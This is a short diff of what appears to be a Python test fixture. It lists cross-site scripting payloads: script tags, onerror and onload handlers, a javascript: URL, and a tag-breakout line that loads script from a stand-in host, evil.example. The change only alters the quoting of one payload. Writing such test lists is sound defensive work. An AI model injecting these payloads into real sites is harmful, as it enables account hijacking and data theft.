@@ -18,7 +18,7 @@ MARK = "alert('injected')"
 
 ATTACKS = [
     f"<script>{MARK}</script>",
-    f"\"><img src=x onerror={MARK}>",
+    f'"><img src=x onerror={MARK}>',
     f"'><svg onload={MARK}>",
     "</title></style></textarea><script src=//evil.example/x.js></script>",
     f"javascript:{MARK}",
